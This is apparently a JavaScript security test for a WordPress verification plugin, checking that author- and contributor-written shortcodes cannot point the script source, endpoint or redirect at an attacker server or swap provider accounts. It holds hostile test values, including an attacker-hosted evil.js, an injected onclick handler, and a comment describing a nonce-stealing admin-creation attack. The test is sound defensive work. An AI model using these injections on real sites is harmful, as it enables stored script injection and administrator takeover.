// Content authors are not administrators: an Author's published post and a Contributor's pending one,
// each with a shortcode per attribute that decides where code is loaded from, where data goes, where
// people are sent or which verification (and provider account) is used, rendered in real WordPress and
// viewed in Chromium by the administrator, who hovers, focuses and clicks every tag. The attributes
// must be gone (the settings' values stand), and nothing may be fetched from the attacker's server.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { startWordPress } from '../support/wordpress.mjs';
import { freePort, launchBrowser, serve, startVerifier } from '../e2e/support.mjs';
import { logIn, withPage } from './support.mjs';

const IMP_CODE = 'imp00000000';
const MIN_AGE = 19;
/** How long a click is given to open the sandbox's dialog (a tag an author pointed elsewhere may never open one). */
const DIALOG_TIMEOUT_MS = 5_000;

let verifier;
let wordpress;
let browser;
/** The attacker's server: every request it gets is counted, and its script would run in the site's origin. */
let attacker;
const attackerRequests = [];
const author = { login: 'jakga', password: 'a-long-test-password-3', email: 'jakga@example.invalid', role: 'author' };
const contributor = { login: 'gigoja', password: 'a-long-test-password-4', email: 'gigoja@example.invalid', role: 'contributor' };

before(async () => {
  attacker = await serve((request, response) => {
    attackerRequests.push(`${request.method} ${request.url}`);
    // What the review's evil.js did: read the create-user nonce and make an administrator.
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' })
      .end('window.attackerRan = true;');
  });
  const port = await freePort();
  verifier = await startVerifier({ origins: [`http://127.0.0.1:${port}`] });
  wordpress = await startWordPress({
    port,
    settings: {
      verifier_url: verifier.origin, provider: 'iamport', imp_code: IMP_CODE, channel_key: '', store_id: '',
      age_rule: 'min_age', age: MIN_AGE, require_on_registration: true, one_account_per_person: true,
    },
    users: [author, contributor],
  });
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await wordpress?.stop();
  await verifier?.stop();
  await attacker?.close();
});

/**
 * Each attribute an author may not set, with the value the review used (the shortcode's `_` for `-`).
 * Provider ids of an attacker's own account would send the person's verification (and its cost) elsewhere.
 */
const forbidden = () => ({
  sdk_src: `${attacker.origin}/evil.js`,
  endpoint: attacker.origin,
  redirect_url: `${attacker.origin}/landing`,
  merchant_uid: 'chosen-by-the-author',
  provider: 'portone',
  imp_code: 'imp99999999',
  store_id: 'store-attacker',
  channel_key: 'channel-key-attacker',
  pg: 'attacker_pg',
  mode: 'form',
});

/** A post's content: one shortcode per forbidden attribute (each marked by a kept `customer_name`), and the raw tag. */
const hostileContent = () => [
  ...Object.entries(forbidden()).map(([name, value]) => `[iamport_verify customer_name="kept-${name}" lang="en" ${name}="${value}"]`),
  `<iamport-verify customer-name="raw-html" sdk-src="${attacker.origin}/raw.js" endpoint="${attacker.origin}"></iamport-verify>`,
].join('\n\n');

/** `user` writes a post through the REST API, as the block editor does (WordPress applies its kses to their content). */
function writePost(user, status) {
  return withPage(browser, async (page) => {
    await logIn(page, wordpress.origin, user);
    const nonce = await (await page.request.get(`${wordpress.origin}/wp-admin/admin-ajax.php?action=rest-nonce`)).text();
    const response = await page.request.post(`${wordpress.origin}/?rest_route=/wp/v2/posts`, {
      headers: { 'x-wp-nonce': nonce },
      data: { title: `${user.role}'s post`, content: hostileContent(), status },
    });
    assert.equal(response.status(), 201, await response.text());
    const post = await response.json();
    assert.equal(post.status, status);
    return post.id;
  });
}

/** The attributes of every tag on the page, in order. */
const tagAttributes = (page) => page.locator('iamport-verify').evaluateAll((tags) =>
  tags.map((tag) => Object.fromEntries([...tag.attributes].map((attribute) => [attribute.name, attribute.value]))));

/**
 * As the administrator, open `path`, then hover, focus and click every tag (closing the sandbox's dialog when one
 * opens). Returns every URL the page requested, and those it requested from the first hover on.
 */
async function adminUses(path) {
  attackerRequests.length = 0;
  return withPage(browser, async (page) => {
    await logIn(page, wordpress.origin, wordpress.admin);
    const requested = [];
    page.on('request', (request) => requested.push(request.url()));
    await page.goto(`${wordpress.origin}${path}`);
    assert.equal(await page.locator('#wpadminbar').count(), 1, 'the administrator is logged in on the post');
    const attributes = await tagAttributes(page);
    const notes = await page.locator('.iamport-verify-ignored').allInnerTexts();
    await page.waitForLoadState('networkidle');
    const fromInteraction = requested.length;
    const tags = page.locator('iamport-verify');
    for (let index = 0; index < await tags.count(); index++) {
      const button = tags.nth(index).getByRole('button');
      await button.hover();
      await button.focus();
      await button.click();
      const cancel = page.locator('.imp-dialog [role=dialog] .imp-cancel');
      try {
        await cancel.waitFor({ timeout: DIALOG_TIMEOUT_MS });
        await cancel.click();
      } catch {
        // No dialog: this tag went elsewhere (what the checks below catch).
      }
    }
    await page.waitForLoadState('networkidle');
    return {
      attributes, notes, requested, afterHover: requested.slice(fromInteraction), attackerRan: await page.evaluate(() => window.attackerRan === true),
    };
  });
}

/** What every tag of a hostile post must carry: the settings' values, and the author's harmless ones. */
function assertOnlySettings(attributes) {
  const names = Object.keys(forbidden());
  assert.equal(attributes.length, names.length, 'one tag per shortcode; the raw <iamport-verify> of the content is gone');
  for (const [index, name] of names.entries()) {
    assert.deepEqual(attributes[index], {
      name: 'iamport_verify_token',
      endpoint: verifier.origin,
      'imp-code': IMP_CODE,
      'min-age': String(MIN_AGE),
      'sdk-src': `${verifier.origin}/sandbox/iamport.js`,
      'customer-name': `kept-${name}`,
      lang: 'en',
    }, `the shortcode with ${name}: only the settings' values and the author's harmless ones`);
  }
}

/** Above each tag, the administrator (who may edit posts) reads which attribute was ignored, and why. */
function assertNoted(notes) {
  assert.deepEqual(notes, Object.keys(forbidden()).map((name) =>
    `iamport-verify ignored ${name}: a post may not set these; the site's settings decide them.`));
}

/** Nothing from the attacker, and from the first hover on nothing but the site and its verifier. */
function assertNothingFetchedElsewhere({ requested, afterHover, attackerRan }) {
  assert.deepEqual(attackerRequests, [], 'the attacker\'s server got no request');
  assert.ok(!requested.some((url) => url.startsWith(attacker.origin)), 'the browser asked the attacker for nothing');
  assert.equal(attackerRan, false);
  const elsewhere = afterHover.filter((url) => ![wordpress.origin, verifier.origin].includes(new URL(url).origin));
  assert.deepEqual(elsewhere, [], 'hover, focus and click fetched nothing from another origin');
  assert.ok(afterHover.some((url) => url.startsWith(`${verifier.origin}/sandbox/iamport.js`)), 'the tags did load the settings\' SDK');
}

describe('what content authors may set on the tag', () => {
  test('an Author\'s published post renders its tags without the attributes that load code, send data or people elsewhere, or choose the verification; the administrator\'s hover, focus and click fetch nothing from the attacker', async () => {
    const id = await writePost(author, 'publish');
    const seen = await adminUses(`/?p=${id}`);
    assertNothingFetchedElsewhere(seen);
    assertOnlySettings(seen.attributes);
    assertNoted(seen.notes);

    await withPage(browser, async (visitor) => {
      await visitor.goto(`${wordpress.origin}/?p=${id}`);
      assertOnlySettings(await tagAttributes(visitor));
      assert.equal(await visitor.locator('.iamport-verify-ignored').count(), 0, 'visitors see no note');
    });
  });

  test('a Contributor\'s pending post does the same in the administrator\'s preview', async () => {
    const id = await writePost(contributor, 'pending');
    const seen = await adminUses(`/?p=${id}&preview=true`);
    assertNothingFetchedElsewhere(seen);
    assertOnlySettings(seen.attributes);
    assertNoted(seen.notes);
  });

  test('iamport_verify_tag() takes the same attributes as the shortcode; a developer\'s filter in PHP sets the others, and only the tag\'s', () => {
    const hostile = JSON.stringify(Object.fromEntries(Object.entries(forbidden()).map(([name, value]) => [name.replaceAll('_', '-'), value])));
    const tag = wordpress.php(`iamport_verify_tag(array_merge(json_decode('${hostile}', true), ['customer-name' => 'kept']));`);
    assert.equal(tag, `<iamport-verify name="iamport_verify_token" endpoint="${verifier.origin}" imp-code="${IMP_CODE}" min-age="${MIN_AGE}" sdk-src="${verifier.origin}/sandbox/iamport.js" customer-name="kept"></iamport-verify>`);

    const filtered = wordpress.php(`add_filter('iamport_verify_tag_attributes', static function (array $attributes, string $context): array {
      return array_merge($attributes, ['pg' => 'danal', 'redirect-url' => home_url('/after/'), 'data-context' => $context, 'onclick' => 'alert(1)']);
    }, 10, 2);
    echo do_shortcode('[iamport_verify pg="ignored"]');`);
    assert.ok(filtered.includes(' pg="danal"') && filtered.includes(` redirect-url="${wordpress.origin}/after/"`), filtered);
    assert.ok(!filtered.includes('ignored') && !filtered.includes('onclick') && !filtered.includes('data-context'), `the filter sets only the tag's attributes: ${filtered}`);

    const bare = wordpress.php(`echo do_shortcode('[iamport_verify required customer_name]');`);
    assert.match(bare, / required><\/iamport-verify>$/, `a bare boolean counts: ${bare}`);
    assert.doesNotMatch(bare, /customer-name/, 'a bare word that is not a boolean attribute is not taken');
  });
});
